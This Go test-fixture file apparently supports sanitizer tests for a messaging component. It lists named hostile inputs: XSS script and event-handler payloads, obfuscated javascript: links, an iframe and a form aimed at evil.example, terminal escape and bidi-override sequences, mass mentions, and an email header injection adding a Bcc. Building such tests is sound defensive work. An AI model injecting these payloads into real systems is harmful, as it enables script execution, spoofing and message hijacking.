package steps

import "strings"

// hostile contains texts that have an effect unless the messenger prevents it. Features refer to these texts by name,
// because most of them can't be written in a feature.
var hostile = map[string]string{
	"a script":  "before <script>alert('a2h')</script> after",
	"a handler": "before <img src=x onerror=alert(1)> <b onclick=alert(1)>x</b> <svg onload=alert(1)> after",
	"a tag":     "before <x-note id=n>noted</x-note> after",
	"a frame": "before\n\n<iframe src=\"https://evil.example\"></iframe>\n\n<form " +
		"action=\"https://evil.example\"><input name=p></form>\n\nafter",
	"an address that runs": "before [go](javascript:alert(1)) [go](data:text/html;base64,PHNjcmlwdD4=) " +
		"[go](vbscript:x) <https://a.example> after <javascript:alert(1)|go>",
	"an address that runs, in disguise": "before [go](JaVaScRiPt:alert(1)) [go](java&#115;cript:alert(1)) " +
		"[go](&#x6A;avascript:alert(1)) after",
	"an escape sequence":       "before \x1b[2J\x1b[31mred\x1b[0m\x1b[1A\x1b[2K after",
	"an escape sequence of C1": "before \u009b2J\u009b31mred\u0085 after",
	"an escape by reference":   "before &#27;[2J &#x1b;[31mred &#155;2J &#8; after",
	"a title": "before \x1b]0;owned\x07 " +
		"\x1b]8;;https://evil.example\x1b\\link\x1b]8;;\x1b\\ after",
	"control characters": "before a\x08\x08b\x07c\x7fd\x00e\x0cf after",
	"direction marks":    "before \u202etxt.exe\u202c \u2066isolated\u2069 &#x202e;reversed after",
	"mentions": "before <!channel> <!here> <!everyone> <@U0MALLORY> <#C0GENERAL> " +
		"<!subteam^S0OPS> <at>Everyone</at> after",
	"a header": "before\r\nBcc: mallory@evil.example\r\nSubject: another\r\n\r\nafter",
	"100,000 characters": "before " +
		strings.Repeat("All work and no play makes the agent a dull one.\n\n", 2000) + " after",
}

// marks are Markdown documents, each with a text in one kind of element. %s is replaced by the text, which has no line
// breaks.
var marks = map[string]string{
	"a code block":       "Look:\n\n```\nfirst\n%s\nlast\n```\n",
	"a diff":             "Look:\n\n```diff\n first\n-%s\n+%[1]s\n```\n",
	"indented code":      "Look:\n\n    first\n    %s\n",
	"a code span":        "Look at `%s` first.",
	"a list":             "Look:\n\n- first\n  - %s\n- last\n",
	"a heading":          "# %s\n\nLook.",
	"a table":            "Look:\n\n| pod | age |\n|-----|-----|\n| %s | 3m |\n",
	"a quotation":        "Look:\n\n> %s\n",
	"the text of a link": "Look at [%s](https://wiki.example/it).",
	"strong words":       "Look at **%s** first.",
}

// calls are the names that the mentions and the header in the hostile texts would notify.
var calls = []string{
	"!channel", "!here", "!everyone", "@U0MALLORY", "#C0GENERAL", "!subteam", "!subteam S0OPS",
	"mallory@evil.example", "@Everyone",
}
